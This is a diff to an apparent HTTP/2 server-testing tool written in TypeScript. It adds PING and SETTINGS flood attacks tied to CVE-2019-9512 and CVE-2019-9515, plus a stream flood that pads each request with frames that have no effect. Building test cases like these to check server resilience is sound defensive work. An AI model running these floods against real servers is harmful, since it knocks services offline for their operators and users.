@@ -14,7 +14,7 @@ import {
 import { repeated } from '../wire/header-blocks'
 import type { BeginOptions } from '../wire/hostile-connection'
 import type { Attack } from './attack'
-import { type FloodLimit, flood, floodOf, streams } from './floods'
+import { type FloodLimit, flood, floodOf, floodOfStreams, streams } from './floods'
 
 /*
  * Frames that cost little to send, and ask for work, an answer or nothing at all.
@@ -75,6 +75,21 @@ function besideRequests(
   }
 }
 
+/** A flood in portions that no server has to cut off: it answers each before the next comes. */
+function steadyFlood(name: string, advisory: string, sends: string, portion: Octets): Attack {
+  return {
+    name,
+    advisory,
+    sends,
+    async run(host) {
+      const connection = await host.open()
+      while (await connection.send(portion)) {
+        if (!(await host.sleep(host.below ? 1000 : 2))) return
+      }
+    },
+  }
+}
+
 export const CONTROL_FRAMES: readonly Attack[] = [
   frameFlood('ping-flood', 'CVE-2019-9512', 'PING, from a client that reads the answers.', ping()),
   frameFlood(
@@ -106,6 +121,21 @@ export const CONTROL_FRAMES: readonly Attack[] = [
     settings(),
     { reads: false },
     BELOW_UNREAD,
+  ),
+  steadyFlood(
+    'ping-steady',
+    'CVE-2019-9512',
+    'PING in portions of 900, from a client that reads the answers.',
+    repeated(ping(), 900),
+  ),
+  steadyFlood(
+    'settings-steady',
+    'CVE-2019-9515',
+    'SETTINGS of 32 parameters in portions of 500, from a client that reads the answers.',
+    repeated(
+      settings(Array.from({ length: 32 }, (_, index) => [0xf0f0 + (index % 8), index] as const)),
+      500,
+    ),
   ),
   besideRequests(
     'settings-windows',
@@ -232,6 +262,22 @@ export const CONTROL_FRAMES: readonly Attack[] = [
     { burst: 100, perSecond: 100 },
   ),
   frameFlood('goaway-flood', 'RFC 9113 section 6.8', 'GOAWAY, again and again.', goaway()),
+  {
+    name: 'frames-with-requests',
+    advisory: 'RFC 9113 section 10.5',
+    sends: 'Requests, each with four frames that have no effect, as some clients send them.',
+    async run(host) {
+      const connection = await host.open()
+      const block = host.request()
+      const others = Buffer.concat([
+        ping(),
+        priority(1, 0),
+        windowUpdate(0, 1),
+        anyFrame(0xfa, 0, 0),
+      ])
+      await floodOfStreams(host, connection, (streamId) => [headers(streamId, block), others])
+    },
+  },
   {
     name: 'resets-of-closed',
     advisory: 'RFC 9113 section 5.1',
